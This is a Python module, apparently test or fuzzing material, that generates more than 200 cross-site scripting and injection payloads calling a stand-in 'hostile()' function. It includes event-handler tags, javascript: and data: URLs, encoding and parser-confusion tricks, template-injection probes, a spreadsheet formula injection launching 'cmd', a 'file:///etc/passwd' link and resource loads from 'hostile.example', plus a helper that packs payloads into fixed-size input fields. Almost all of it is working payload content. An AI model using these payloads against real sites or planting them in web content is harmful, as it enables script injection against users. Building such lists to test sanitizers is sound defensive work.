"""More than 200 texts that call `hostile()` in a browser that takes any of them for markup, for a
script, or for an address to follow.
"""

import random
from collections.abc import Iterable
from itertools import product

CALL = "hostile()"

# What ends the place a text may stand in: an attribute, an element of raw text, a comment.
ENDS = (
    *("", '">', "'>", "`>", "--><!-- -->", "]]>", "</script>", "</style>", "</title>"),
    *("</textarea>", "</noscript>", "</template>", '"}</script>'),
)
ELEMENTS = (
    f"<script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<svg onload={CALL}></svg>",
    f'<svg><script>{CALL}</script></svg><math><mtext></p><img src=x onerror="{CALL}">',
    f"<details open ontoggle={CALL}>.</details>",
    f"<input autofocus onfocus={CALL}>",
    f'<iframe srcdoc="<script>parent.{CALL}</script>"></iframe>',
    f'<iframe src="javascript:parent.{CALL}"></iframe>',
    f"<video><source onerror={CALL}></video>",
    f"<p style=animation-name:x onanimationstart={CALL} onpointerenter={CALL}>.</p>",
)
ODDITIES = (
    f"<ScRiPt>{CALL}</sCrIpT>",
    f"<script\x0b>{CALL}</script >",
    f"<script/x>{CALL}</script/x>",
    f"<<script>{CALL}//<</script>",
    f"<img src=x:x onerror\x0c={CALL}//",
    f"<img/src=x/onerror={CALL}>",
    f"<img src='x' o\x1fnerror={CALL}>",
    f"<a href=# onclick={CALL} autofocus onfocus={CALL} tabindex=1>.</a>",
    f"<form action=javascript:{CALL}><button autofocus onfocus={CALL}>.</button></form>",
    f"<button formaction=javascript:{CALL}>.</button>",
    f"<object data=javascript:{CALL}></object>",
    f"<embed src=javascript:{CALL}>",
    f"<base href=javascript:{CALL}//><a href=x>.</a>",
    f'<meta http-equiv=refresh content="0;url=javascript:{CALL}">',
    "<link rel=stylesheet href=//hostile.example/x.css>",
    "<style>@import '//hostile.example/x.css';</style>",
    "<img src=//hostile.example/x.png>",
    "<script src=//hostile.example/x.js></script>",
    "<div style=\"background:url('//hostile.example/x.png')\">.</div>",
    f"<marquee onstart={CALL}>.</marquee>",
    f"<body onload={CALL} onpageshow={CALL}>",
    f"<select autofocus onfocus={CALL}></select>",
    f"<audio src onerror={CALL}></audio>",
    f"<xss onpointerover={CALL} style=display:block>.</xss>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'></p></noscript>",
    f"<table><style><img title='</style><img src=x onerror={CALL}>'></style></table>",
    f"<math><mglyph><style><!--</style><img title='--><img src=x onerror={CALL}>'></mglyph></math>",
    f"<template><script>{CALL}</script></template>",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&amp;lt;img src=x onerror={CALL}&amp;gt;",
    f"&#60;img src=x onerror={CALL}&#62;",
    f"%3Cimg%20src=x%20onerror={CALL}%3E",
    f"\\u003cimg src=x onerror={CALL}\\u003e",
    f"\\x3cscript\\x3e{CALL}\\x3c/script\\x3e",
    f"\uff1cscript\uff1e{CALL}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
    f"<p>\u0338 onclick={CALL} <b>.</b></p>",
    f"\u202e<img src=x onerror={CALL}>\u2066",
    f'";{CALL};//',
    f"';{CALL};//",
    f"`-{CALL}-`",
    f'\\";{CALL};//',
    f"${{{CALL}}}",
    "{{ self.__init__.__globals__ }}{{ 7 * 7 }}{% debug %}{% include 'admin/index.html' %}",
    "{# x #}{{ ''|safe }}<%= 7 * 7 %>#{7 * 7}${7 * 7}",
    f"\u2028{CALL}\u2029//",
    f'" onmouseover={CALL} autofocus onfocus={CALL} x="',
    f"' onmouseover={CALL} autofocus onfocus={CALL} x='",
    f"=cmd|'/c calc'!A1\n+{CALL}\n@{CALL}",
    f"<a href='//hostile.example' target=_top>.</a><a\thref\t=\t'javascript:{CALL}'>.</a>",
)
SCHEMES = (
    *(f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f" javascript:{CALL}", f"\x01javascript:{CALL}"),
    *(f"java\tscript:{CALL}", f"java\nscript:{CALL}", f"javascript\n:{CALL}"),
    *(f"&#106;avascript:{CALL}", f"javascript&colon;{CALL}", f"java&Tab;script:{CALL}"),
    *(f"javascript://example.org/%0a{CALL}", f"javascript:/*x*/{CALL}", f"vbscript:{CALL}"),
    f"data:text/html,<script>parent.{CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKCk8L3NjcmlwdD4=",
    *(f"data:image/svg+xml,<svg onload={CALL}>", f"blob:{CALL}", f"view-source:javascript:{CALL}"),
    *("file:///etc/passwd", "//hostile.example/", "\\\\hostile.example\\x", "https:a.example"),
)
LINKS = ('<a href="{}">.</a>', "<a href='{}'>.</a>", "<a href={}>.</a>", "{}", "[.]({})")


def payloads() -> list[str]:
    """All of them, in the same mixed order each time."""
    found = [end + element for end, element in product(ENDS, ELEMENTS)]
    found += ODDITIES
    found += [link.format(scheme) for link, scheme in product(LINKS, SCHEMES)]
    random.Random(1).shuffle(found)  # noqa: S311 - not a secret
    return found


def packed(texts: Iterable[str], room: int) -> list[list[str]]:
    """`texts` in groups, each of as many as a control that holds `room` signs takes together."""
    found: list[list[str]] = []
    free = 0
    for text in texts:
        if found and len(text) < free:
            found[-1].append(text)
            free -= 1 + len(text)
        else:
            found.append([text])
            free = room - len(text)
    return found
